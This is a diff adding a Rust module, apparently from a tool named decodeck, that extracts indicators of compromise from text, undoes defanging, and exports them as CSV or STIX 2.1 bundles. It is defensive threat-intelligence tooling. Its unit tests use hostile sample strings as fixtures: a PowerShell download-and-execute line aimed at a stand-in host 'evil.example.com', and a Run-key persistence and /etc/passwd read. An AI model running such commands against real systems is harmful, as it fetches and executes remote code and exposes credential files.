@@ -0,0 +1,428 @@
+//! Indicator-of-compromise extraction
+//!
+//! Pulls network and host indicators out of decoded text. Defanged forms
+//! (`hxxp://`, `example[.]com`, `user[@]example.com`) are refanged first, so
+//! indicators are reported in their usable form.
+
+use crate::error::DecodeckError;
+use crate::util::{hex, rfc3339};
+use clap::ValueEnum;
+use regex::Regex;
+use serde::Serialize;
+use sha1::{Digest, Sha1};
+use std::collections::HashSet;
+use std::net::Ipv6Addr;
+use std::sync::OnceLock;
+use std::time::{SystemTime, UNIX_EPOCH};
+
+/// Compile a pattern once and reuse it
+macro_rules! regex {
+    ($pattern:expr) => {{
+        static RE: OnceLock<Regex> = OnceLock::new();
+        RE.get_or_init(|| Regex::new($pattern).unwrap())
+    }};
+}
+
+/// Top-level domains accepted for bare domain names
+///
+/// Bare `word.word` tokens are mostly file names and member accesses, so
+/// only common TLDs are recognised. TLDs that double as file extensions
+/// (`.zip`, `.mov`, `.sh`) are left out on purpose.
+const DOMAIN_TLDS: &[&str] = &[
+    "com", "net", "org", "edu", "gov", "mil", "int", "info", "biz", "io", "co", "me", "tv", "cc",
+    "xyz", "top", "site", "online", "club", "live", "shop", "app", "dev", "cloud", "tech", "icu",
+    "link", "click", "space", "website", "store", "pw", "tk", "ml", "ga", "cf", "gq", "su", "ru",
+    "cn", "uk", "de", "fr", "nl", "eu", "jp", "kr", "br", "in", "it", "es", "pl", "ua", "ir", "kp",
+    "us", "ca", "au", "onion",
+];
+
+/// UUID namespace for STIX 2.1 identifiers derived from content
+const STIX_NAMESPACE: [u8; 16] = [
+    0x00, 0xab, 0xed, 0xb4, 0xaa, 0x42, 0x46, 0x6c, 0x9c, 0x01, 0xfe, 0xd2, 0x33, 0x15, 0xa9, 0xb7,
+];
+
+const URL: &str = r#"(?i)\b(?:https?|ftp)://[^\s"'<>()\[\]{}`]+"#;
+const EMAIL: &str = r"(?i)\b[a-z0-9._%+-]+@(?:[a-z0-9-]+\.)+[a-z]{2,24}\b";
+const DOMAIN: &str = r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+([a-z]{2,24})\b";
+const IPV4: &str =
+    r"\b(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\b";
+const IPV6: &str = r"(?i)(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}";
+const REGISTRY_KEY: &str = r#"(?i)\b(?:HKEY_LOCAL_MACHINE|HKEY_CURRENT_USER|HKEY_CLASSES_ROOT|HKEY_USERS|HKEY_CURRENT_CONFIG|HKLM|HKCU|HKCR|HKU|HKCC):?\\[^\s"'<>|;]+"#;
+const WINDOWS_PATH: &str =
+    r#"(?i)(?:\b[a-z]:|\\\\[a-z0-9._-]+)\\(?:[^\\/:*?"<>|\s;]+\\)*[^\\/:*?"<>|\s;]+"#;
+const UNIX_PATH: &str = r#"(?:^|[\s"'=(>])((?:/[A-Za-z0-9._-]+){2,}/?)"#;
+const HASH: &str = r"(?i)\b(?:[0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})\b";
+
+/// Kind of indicator
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum IocKind {
+    Url,
+    Domain,
+    Ipv4,
+    Ipv6,
+    Email,
+    FilePath,
+    RegistryKey,
+    Md5,
+    Sha1,
+    Sha256,
+}
+
+impl IocKind {
+    /// Short lowercase name used in text and CSV output
+    pub fn name(&self) -> &'static str {
+        match self {
+            IocKind::Url => "url",
+            IocKind::Domain => "domain",
+            IocKind::Ipv4 => "ipv4",
+            IocKind::Ipv6 => "ipv6",
+            IocKind::Email => "email",
+            IocKind::FilePath => "file_path",
+            IocKind::RegistryKey => "registry_key",
+            IocKind::Md5 => "md5",
+            IocKind::Sha1 => "sha1",
+            IocKind::Sha256 => "sha256",
+        }
+    }
+
+    /// STIX 2.1 pattern matching this kind of indicator
+    fn stix_pattern(&self, value: &str) -> String {
+        let value = value.replace('\\', "\\\\").replace('\'', "\\'");
+        match self {
+            IocKind::Url => format!("[url:value = '{}']", value),
+            IocKind::Domain => format!("[domain-name:value = '{}']", value),
+            IocKind::Ipv4 => format!("[ipv4-addr:value = '{}']", value),
+            IocKind::Ipv6 => format!("[ipv6-addr:value = '{}']", value),
+            IocKind::Email => format!("[email-addr:value = '{}']", value),
+            IocKind::FilePath => format!("[file:name = '{}']", value),
+            IocKind::RegistryKey => format!("[windows-registry-key:key = '{}']", value),
+            IocKind::Md5 => format!("[file:hashes.MD5 = '{}']", value),
+            IocKind::Sha1 => format!("[file:hashes.'SHA-1' = '{}']", value),
+            IocKind::Sha256 => format!("[file:hashes.'SHA-256' = '{}']", value),
+        }
+    }
+}
+
+/// An indicator of compromise
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Ioc {
+    /// Kind of indicator
+    #[serde(rename = "type")]
+    pub kind: IocKind,
+    /// Refanged value
+    pub value: String,
+}
+
+/// Export format for extracted indicators
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, ValueEnum)]
+pub enum IocFormat {
+    /// `type,value` rows with a header
+    #[default]
+    Csv,
+    /// STIX 2.1 bundle of indicator objects
+    Stix,
+}
+
+/// Extract indicators from text
+///
+/// Results are deduplicated and grouped by kind, keeping the order in which
+/// indicators first appear.
+pub fn extract(text: &str) -> Vec<Ioc> {
+    let text = refang(text);
+    let mut iocs = Vec::new();
+
+    for m in regex!(URL).find_iter(&text) {
+        let url = m.as_str().trim_end_matches(['.', ',', ';', ':', '!', '?']);
+        iocs.push(ioc(IocKind::Url, url));
+    }
+
+    for m in regex!(EMAIL).find_iter(&text) {
+        iocs.push(ioc(IocKind::Email, &m.as_str().to_lowercase()));
+    }
+
+    for caps in regex!(DOMAIN).captures_iter(&text) {
+        let tld = caps[1].to_lowercase();
+        let domain = caps[0].to_lowercase();
+        // Skip the user part of email addresses (e.g. `first.last@`)
+        let followed_by_at = text[caps.get(0).map_or(0, |m| m.end())..].starts_with('@');
+        if DOMAIN_TLDS.contains(&tld.as_str()) && !followed_by_at {
+            iocs.push(ioc(IocKind::Domain, &domain));
+        }
+    }
+
+    for m in regex!(IPV4).find_iter(&text) {
+        iocs.push(ioc(IocKind::Ipv4, m.as_str()));
+    }
+
+    for m in regex!(IPV6).find_iter(&text) {
+        let candidate = m.as_str();
+        let bounded = !text[..m.start()].ends_with(|c: char| c.is_alphanumeric())
+            && !text[m.end()..].starts_with(|c: char| c.is_alphanumeric() || c == '.');
+        if bounded && candidate.chars().any(|c| c.is_ascii_hexdigit()) {
+            if let Ok(addr) = candidate.parse::<Ipv6Addr>() {
+                iocs.push(ioc(IocKind::Ipv6, &addr.to_string()));
+            }
+        }
+    }
+
+    for m in regex!(REGISTRY_KEY).find_iter(&text) {
+        iocs.push(ioc(IocKind::RegistryKey, m.as_str()));
+    }
+
+    for m in regex!(WINDOWS_PATH).find_iter(&text) {
+        iocs.push(ioc(IocKind::FilePath, m.as_str()));
+    }
+
+    for caps in regex!(UNIX_PATH).captures_iter(&text) {
+        iocs.push(ioc(IocKind::FilePath, &caps[1]));
+    }
+
+    for m in regex!(HASH).find_iter(&text) {
+        let kind = match m.as_str().len() {
+            32 => IocKind::Md5,
+            40 => IocKind::Sha1,
+            _ => IocKind::Sha256,
+        };
+        iocs.push(ioc(kind, &m.as_str().to_lowercase()));
+    }
+
+    dedup(iocs)
+}
+
+/// Merge indicators from several sources, keeping the first occurrence
+pub fn dedup(iocs: impl IntoIterator<Item = Ioc>) -> Vec<Ioc> {
+    let mut seen = HashSet::new();
+    let mut unique: Vec<Ioc> = iocs
+        .into_iter()
+        .filter(|ioc| seen.insert((ioc.kind, ioc.value.clone())))
+        .collect();
+    unique.sort_by_key(|ioc| ioc.kind);
+    unique
+}
+
+/// Undo common defanging so indicators can be matched
+pub fn refang(text: &str) -> String {
+    const HXXP: &str = r"(?i)\bhxxp(s?)\b";
+    const DOT: &str = r"(?i)\s?(?:\[\.\]|\(\.\)|\{\.\}|\[dot\]|\(dot\))\s?";
+    const AT: &str = r"(?i)\s?(?:\[@\]|\(@\)|\[at\]|\(at\))\s?";
+
+    let text = regex!(HXXP).replace_all(text, "http$1");
+    let text = regex!(DOT).replace_all(&text, ".");
+    let text = regex!(AT).replace_all(&text, "@");
+    text.replace("[:]", ":").replace("[://]", "://")
+}
+
+/// Render indicators in an export format
+pub fn export(iocs: &[Ioc], format: IocFormat) -> Result<String, DecodeckError> {
+    match format {
+        IocFormat::Csv => to_csv(iocs),
+        IocFormat::Stix => to_stix(iocs),
+    }
+}
+
+fn to_csv(iocs: &[Ioc]) -> Result<String, DecodeckError> {
+    let csv_error = |e: &dyn std::fmt::Display| DecodeckError::SystemError {
+        message: format!("Failed to write CSV: {}", e),
+    };
+
+    let mut writer = csv::Writer::from_writer(Vec::new());
+    writer
+        .write_record(["type", "value"])
+        .map_err(|e| csv_error(&e))?;
+    for ioc in iocs {
+        writer
+            .write_record([ioc.kind.name(), ioc.value.as_str()])
+            .map_err(|e| csv_error(&e))?;
+    }
+    let bytes = writer.into_inner().map_err(|e| csv_error(&e))?;
+    String::from_utf8(bytes).map_err(|e| csv_error(&e))
+}
+
+fn to_stix(iocs: &[Ioc]) -> Result<String, DecodeckError> {
+    let now = rfc3339_now();
+    let objects: Vec<serde_json::Value> = iocs
+        .iter()
+        .map(|ioc| {
+            serde_json::json!({
+                "type": "indicator",
+                "spec_version": "2.1",
+                "id": format!("indicator--{}", stable_uuid(&format!("{}:{}", ioc.kind.name(), ioc.value))),
+                "created": now,
+                "modified": now,
+                "valid_from": now,
+                "name": ioc.value,
+                "indicator_types": ["malicious-activity"],
+                "pattern": ioc.kind.stix_pattern(&ioc.value),
+                "pattern_type": "stix",
+            })
+        })
+        .collect();
+
+    let ids: Vec<String> = iocs.iter().map(|ioc| ioc.value.clone()).collect();
+    let bundle = serde_json::json!({
+        "type": "bundle",
+        "id": format!("bundle--{}", stable_uuid(&ids.join("\n"))),
+        "objects": objects,
+    });
+
+    serde_json::to_string_pretty(&bundle).map_err(|e| DecodeckError::SystemError {
+        message: format!("Failed to serialize STIX bundle: {}", e),
+    })
+}
+
+/// Derive a UUID from content, so re-exporting the same indicator yields the
+/// same STIX id
+fn stable_uuid(content: &str) -> String {
+    uuid_v5(&STIX_NAMESPACE, content)
+}
+
+/// Name-based UUID (version 5, RFC 4122) of `name` in `namespace`
+fn uuid_v5(namespace: &[u8; 16], name: &str) -> String {
+    let mut bytes: [u8; 16] = Sha1::new()
+        .chain_update(namespace)
+        .chain_update(name.as_bytes())
+        .finalize()[..16]
+        .try_into()
+        .unwrap_or_default();
+    bytes[6] = (bytes[6] & 0x0f) | 0x50;
+    bytes[8] = (bytes[8] & 0x3f) | 0x80;
+    let hex = hex(&bytes);
+    format!(
+        "{}-{}-{}-{}-{}",
+        &hex[..8],
+        &hex[8..12],
+        &hex[12..16],
+        &hex[16..20],
+        &hex[20..32]
+    )
+}
+
+/// Current UTC time as an RFC 3339 timestamp
+fn rfc3339_now() -> String {
+    let secs = SystemTime::now()
+        .duration_since(UNIX_EPOCH)
+        .map(|d| d.as_secs())
+        .unwrap_or_default();
+    rfc3339(secs)
+}
+
+fn ioc(kind: IocKind, value: &str) -> Ioc {
+    Ioc {
+        kind,
+        value: value.to_string(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn values(iocs: &[Ioc], kind: IocKind) -> Vec<&str> {
+        iocs.iter()
+            .filter(|i| i.kind == kind)
+            .map(|i| i.value.as_str())
+            .collect()
+    }
+
+    #[test]
+    fn test_extract_network_indicators() {
+        let text =
+            "IEX (New-Object Net.WebClient).DownloadString('hxxps://evil[.]example.com/a.ps1'); \
+                    ping 10.0.0.5; mail admin[@]corp.org; connect 2001:db8::1 at 12:30:45";
+        let iocs = extract(text);
+
+        assert_eq!(
+            values(&iocs, IocKind::Url),
+            ["https://evil.example.com/a.ps1"]
+        );
+        assert_eq!(
+            values(&iocs, IocKind::Domain),
+            ["evil.example.com", "corp.org"]
+        );
+        assert_eq!(values(&iocs, IocKind::Ipv4), ["10.0.0.5"]);
+        assert_eq!(values(&iocs, IocKind::Ipv6), ["2001:db8::1"]);
+        assert_eq!(values(&iocs, IocKind::Email), ["admin@corp.org"]);
+    }
+
+    #[test]
+    fn test_extract_host_indicators() {
+        let text = r#"copy C:\Users\Public\x.exe to \\srv\share\drop.bin; reg add HKCU:\Software\Run; cat /etc/passwd
+d41d8cd98f00b204e9800998ecf8427e"#;
+        let iocs = extract(text);
+
+        assert_eq!(
+            values(&iocs, IocKind::FilePath),
+            [
+                r"C:\Users\Public\x.exe",
+                r"\\srv\share\drop.bin",
+                "/etc/passwd"
+            ]
+        );
+        assert_eq!(values(&iocs, IocKind::RegistryKey), [r"HKCU:\Software\Run"]);
+        assert_eq!(
+            values(&iocs, IocKind::Md5),
+            ["d41d8cd98f00b204e9800998ecf8427e"]
+        );
+    }
+
+    #[test]
+    fn test_extract_ignores_file_names() {
+        let iocs = extract("Invoke-Expression script.ps1 and System.IO.File");
+        assert!(values(&iocs, IocKind::Domain).is_empty());
+    }
+
+    #[test]
+    fn test_dedup() {
+        let iocs = extract("8.8.8.8 then 8.8.8.8 and EXAMPLE.com example.com");
+        assert_eq!(values(&iocs, IocKind::Ipv4), ["8.8.8.8"]);
+        assert_eq!(values(&iocs, IocKind::Domain), ["example.com"]);
+    }
+
+    #[test]
+    fn test_export_csv() {
+        let iocs = extract("see http://a.com/x,y");
+        let csv = export(&iocs, IocFormat::Csv).unwrap();
+        assert!(csv.starts_with("type,value\n"));
+        assert!(csv.contains("url,\"http://a.com/x,y\"\n"));
+    }
+
+    #[test]
+    fn test_export_stix() {
+        let iocs = extract("1.2.3.4");
+        let stix: serde_json::Value =
+            serde_json::from_str(&export(&iocs, IocFormat::Stix).unwrap()).unwrap();
+        assert_eq!(stix["type"], "bundle");
+        assert_eq!(
+            stix["objects"][0]["pattern"],
+            "[ipv4-addr:value = '1.2.3.4']"
+        );
+        assert!(stix["objects"][0]["id"]
+            .as_str()
+            .unwrap()
+            .starts_with("indicator--"));
+    }
+
+    #[test]
+    fn test_stable_uuid() {
+        // RFC 4122 DNS namespace
+        let dns = [
+            0x6b, 0xa7, 0xb8, 0x10, 0x9d, 0xad, 0x11, 0xd1, 0x80, 0xb4, 0x00, 0xc0, 0x4f, 0xd4,
+            0x30, 0xc8,
+        ];
+        assert_eq!(
+            uuid_v5(&dns, "python.org"),
+            "886313e1-3b8a-5372-9b90-0c9aee199e5d"
+        );
+
+        let uuid = stable_uuid("ipv4-addr:1.2.3.4");
+        assert_eq!(uuid, stable_uuid("ipv4-addr:1.2.3.4"));
+        let groups: Vec<&str> = uuid.split('-').collect();
+        assert_eq!(
+            groups.iter().map(|g| g.len()).collect::<Vec<_>>(),
+            [8, 4, 4, 4, 12]
+        );
+        assert!(groups[2].starts_with('5'));
+        assert!(matches!(groups[3].as_bytes()[0], b'8' | b'9' | b'a' | b'b'));
+    }
+}